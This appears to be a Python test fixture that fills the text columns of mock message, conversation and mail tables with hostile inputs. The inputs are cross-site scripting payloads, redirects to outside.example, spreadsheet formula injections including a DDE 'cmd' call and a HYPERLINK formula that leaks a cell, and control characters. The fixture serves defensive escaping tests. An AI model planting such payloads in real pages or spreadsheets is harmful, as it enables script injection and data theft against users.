"""What a stranger may write, hoping that it runs: each would set `done` on the page, or compute in a spreadsheet."""

import polars as pl

PAYLOADS = (
    "<script>window.done=1</script>",
    "</script><script>window.done=1</script>",
    "<img src=x onerror=window.done=1>",
    '"><img src=x onerror="window.done=1">',
    "'><svg onload=window.done=1>",
    "<svg><script>window.done=1</script></svg>",
    "<svg><a xlink:href='javascript:window.done=1'><text>x</text></a></svg>",
    "<a href='javascript:window.done=1'>free car</a>",
    "javascript:window.done=1",
    "[free car](javascript:window.done=1)",
    "<iframe srcdoc='<script>parent.done=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.done=1</script>'></object>",
    "<embed src='data:text/html,<script>parent.done=1</script>'>",
    "<a href='data:text/html,<script>window.done=1</script>'>x</a>",
    "<details open ontoggle=window.done=1>",
    "<input autofocus onfocus=window.done=1>",
    "<body onload=window.done=1>",
    "<math><mtext><img src=x onerror=window.done=1></mtext></math>",
    "<style>@import 'https://outside.example/x.css';</style>",
    "<base href='https://outside.example/'>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/'>",
    "<form action='https://outside.example/'><button autofocus>x</button></form>",
    "&lt;script&gt;window.done=1&lt;/script&gt;",
    "$\\href{javascript:window.done=1}{x}$ costs $5",
    "%{y} <b>bold</b><br>new line<extra></extra>",
    "${window.done=1} {{window.done=1}} `window.done=1`",
    "\u202emirrored\u2066 \x00\x1b]0;x\x07",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://outside.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)


def hostile(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with a payload in every text, ids included, those of one column each another one."""
    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    row = pl.int_range(pl.len())
    return frame.with_columns(
        pl.lit(pl.Series(PAYLOADS)).gather((row + 5 * place) % len(PAYLOADS)).alias(name)
        for place, name in enumerate(texts)
    )


def said_about(leads: pl.DataFrame) -> dict[str, pl.DataFrame]:
    """A message, a conversation and a mail of the buyer of each lead, with payloads in every text."""
    later = pl.col("submitted_at").dt.offset_by("5m")
    number = pl.int_range(pl.len()).cast(pl.String)
    texts = pl.Series("words", PAYLOADS).gather(pl.int_range(0, len(leads), eager=True) % len(PAYLOADS))
    ids = [pl.col("account"), pl.format("<b>{}</b>", number).alias("message_id")]
    thread = pl.format("<i>{}</i>", number).alias("conversation_id")
    seen = pl.col("fetched_at").dt.offset_by("90d")
    rows = leads.with_columns(texts)
    messages = rows.select(
        *ids,
        thread,
        pl.col("item_id").alias("reference_id"),
        later.alias("created_at"),
        pl.col("user_id").alias("sender"),
        pl.col("words").alias("recipient"),
        pl.lit(value=False).alias("from_seller"),
        pl.col("words").alias("body"),
        seen.alias("fetched_at"),
    )
    mail = rows.select(
        *ids,
        pl.col("words").alias("external_message_id"),
        pl.lit("0").alias("folder_id"),
        pl.col("user_id").alias("sender"),
        pl.col("words").alias("recipient"),
        later.alias("received_at"),
        pl.lit(None, pl.Datetime("us", "UTC")).alias("replied_at"),
        pl.lit(value=False).alias("replied"),
        "item_id",
        pl.col("words").alias("text"),
        seen.alias("fetched_at"),
    )
    talks = rows.select(
        pl.col("account"),
        thread,
        pl.col("item_id").alias("reference_id"),
        pl.col("user_id").alias("other_party"),
        later.alias("created_at"),
        pl.format("<b>{}</b>", number).alias("latest_message_id"),
        later.alias("latest_at"),
        pl.col("user_id").alias("latest_sender"),
        pl.col("words").alias("latest_recipient"),
        pl.col("words").alias("latest_body"),
        seen.alias("fetched_at"),
    )
    return {"messages": messages, "mail": mail, "talks": talks}
